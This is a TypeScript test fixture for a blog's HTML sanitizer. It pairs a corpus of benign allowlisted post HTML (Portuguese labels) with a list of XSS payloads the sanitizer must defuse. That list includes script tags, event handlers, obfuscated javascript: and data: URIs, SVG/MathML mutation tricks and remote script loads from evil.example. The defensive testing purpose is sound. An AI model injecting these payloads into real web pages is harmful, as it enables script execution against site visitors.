// Every element and attribute the blog's sanitizer keeps, each in a small piece of post HTML as the
// sanitizer stores it. The browser test of the content field loads each piece, edits it in the
// Visual view (or sees that view refuse it) and checks that the saved HTML is unchanged;
// tests/unit/blog-html-corpus.test.ts checks that the corpus covers the whole allowlist.
export interface CorpusPiece {
  /** What the piece shows (the test names it when it fails). */
  name: string;
  html: string;
}

export const BLOG_HTML_CORPUS: CorpusPiece[] = [
  { name: "parágrafo com quebra de linha", html: "<p>Linha um<br />Linha dois</p>" },
  { name: "linha horizontal", html: "<p>Antes</p><hr /><p>Depois</p>" },
  { name: "h2", html: "<h2>Título h2</h2>" },
  { name: "h3", html: "<h3>Título h3</h3>" },
  { name: "h4", html: "<h4>Título h4</h4>" },
  { name: "h5", html: "<h5>Título h5</h5>" },
  { name: "h6", html: "<h6>Título h6</h6>" },
  {
    name: "títulos com âncora e link interno",
    html:
      '<p><a href="#introducao">Ir para a introdução</a></p><h2 id="introducao">Introdução</h2><h3 id="passo-1">Passo 1</h3>' +
      '<h4 id="Detalhes">Detalhes</h4><h5 id="nota_1">Nota</h5><h6 id="fim">Fim</h6>',
  },
  { name: "strong e em", html: "<p>Texto <strong>forte</strong> e <em>ênfase</em>.</p>" },
  { name: "b e i", html: "<p>Texto <b>negrito</b> e <i>itálico</i>.</p>" },
  { name: "u e s", html: "<p>Texto <u>sublinhado</u> e <s>riscado</s>.</p>" },
  { name: "mark, small, sub, sup", html: "<p><mark>marcado</mark> <small>pequeno</small> H<sub>2</sub>O x<sup>2</sup></p>" },
  { name: "q e cite", html: "<p><q>Uma citação curta</q> de <cite>Um Livro</cite></p>" },
  { name: "code", html: "<p>Use <code>npm run build</code> antes.</p>" },
  { name: "pre com code", html: "<pre><code>const a = 1;\n  if (a) {\n    return a &lt; 2;\n  }</code></pre>" },
  { name: "pre sem code", html: "<pre>texto   pré-formatado\n  com espaços</pre>" },
  { name: "blockquote com parágrafo", html: "<blockquote><p>Citação em parágrafo.</p></blockquote>" },
  { name: "blockquote simples", html: "<blockquote>Citação direta.</blockquote>" },
  { name: "lista", html: "<ul><li>Um</li><li>Dois</li></ul>" },
  { name: "lista com parágrafos", html: "<ul><li><p>Um</p></li><li><p>Dois</p></li></ul>" },
  { name: "lista numerada com start", html: '<ol start="3"><li>Três</li><li>Quatro</li></ol>' },
  { name: "lista numerada reversed", html: "<ol reversed><li>Dois</li><li>Um</li></ol>" },
  { name: "lista aninhada", html: "<ul><li>Pai<ul><li>Filho</li></ul></li></ul>" },
  { name: "lista de definições", html: "<dl><dt>Termo</dt><dd>Definição</dd></dl>" },
  {
    name: "link externo com title",
    html: '<p>Veja <a href="https://example.com/pagina" title="Exemplo" target="_blank" rel="noopener noreferrer nofollow">o site</a>.</p>',
  },
  { name: "link interno", html: '<p>Veja <a href="/servicos">os serviços</a>.</p>' },
  {
    name: "links mailto e tel",
    html: '<p><a href="mailto:contato@example.com">e-mail</a> ou <a href="tel:+5511999999999">telefone</a></p>',
  },
  { name: "imagem com atributos", html: '<img src="/demo/capa.jpg" alt="Capa" title="Uma capa" width="640" height="360" loading="lazy" />' },
  { name: "imagem de outro site", html: '<img src="https://images.example.com/foto.jpg" alt="Foto" loading="lazy" />' },
  { name: "imagem dentro de parágrafo", html: '<p>Texto <img src="/demo/capa.jpg" alt="" loading="lazy" /> ao lado</p>' },
  { name: "figura com legenda", html: '<figure><img src="/demo/capa.jpg" alt="Capa" loading="lazy" /><figcaption>Legenda da figura</figcaption></figure>' },
  {
    name: "tabela completa",
    html:
      '<table><caption>Resultados</caption><thead><tr><th scope="col">Mês</th><th scope="col" colspan="2">Alcance</th></tr></thead>' +
      '<tbody><tr><td rowspan="2">Jan</td><td>10</td><td>20</td></tr><tr><td colspan="2">30</td></tr></tbody>' +
      '<tfoot><tr><th scope="row" rowspan="1">Total</th><td colspan="2">60</td></tr></tfoot></table>',
  },
  { name: "span", html: "<p>Um <span>trecho</span> marcado.</p>" },
  { name: "div", html: "<div>Bloco genérico</div>" },
  {
    name: "vídeo do YouTube",
    html: '<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" title="Vídeo" allowfullscreen="true" loading="lazy"></iframe>',
  },
  { name: "vídeo do Vimeo sem atributos", html: '<iframe src="https://player.vimeo.com/video/76979871"></iframe>' },
];

/** Attacks the sanitizer must defuse (tests/unit/sanitize-xss.test.ts), and report (tests/unit/sanitize-report.test.ts). */
export const XSS_CORPUS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  '<img src=x onerror="alert(1)">',
  "<img src=x oNeRrOr=alert(1)>",
  '<body onload="alert(1)">',
  '<p onclick="alert(1)" onmouseover=alert(1)>texto</p>',
  '<a href="javascript:alert(1)">link</a>',
  '<a href="  JaVaScRiPt:alert(1)">link</a>',
  '<a href="jav&#x09;ascript:alert(1)">link</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">link</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>',
  '<a href="vbscript:msgbox(1)">link</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<svg onload="alert(1)"><circle r="10"/></svg>',
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  "<style>body{background:url(javascript:alert(1))}</style>",
  '<p style="background:url(javascript:alert(1))">estilo</p>',
  '<div style="behavior:url(x.htc);-moz-binding:url(x.xml#x)">x</div>',
  '<link rel="stylesheet" href="//evil.example/x.css"><meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<form action="javascript:alert(1)"><button>ok</button></form>',
  '<input autofocus onfocus="alert(1)">',
  '<details open ontoggle="alert(1)"><summary>x</summary></details>',
  '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
  "<p><b><i>aninhamento <u>malformado</b></i></p></u>",
  '<a href="https://exemplo.com.br" target="_self" onclick="alert(1)">legítimo</a>',
  "<!--<img src=x onerror=alert(1)>-->",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<template><script>alert(1)</script></template>",
  '<img src="https://exemplo.com.br/a.png" alt="ok" srcset="javascript:alert(1) 1x">',
];
